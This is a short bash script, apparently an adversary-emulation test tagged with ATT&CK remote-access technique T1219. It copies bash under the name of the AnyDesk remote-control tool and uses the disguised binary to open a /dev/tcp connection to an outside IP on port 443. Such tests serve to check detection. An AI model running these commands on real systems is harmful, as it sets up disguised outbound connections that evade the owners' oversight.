# title: A program for remote control is installed and started
# technique: T1219.002 T1219
# needs: bash

mkdir -p /opt/anydesk && cp /bin/bash /opt/anydesk/anydesk
/opt/anydesk/anydesk -c 'exec 3<>/dev/tcp/192.88.99.7/443; :'
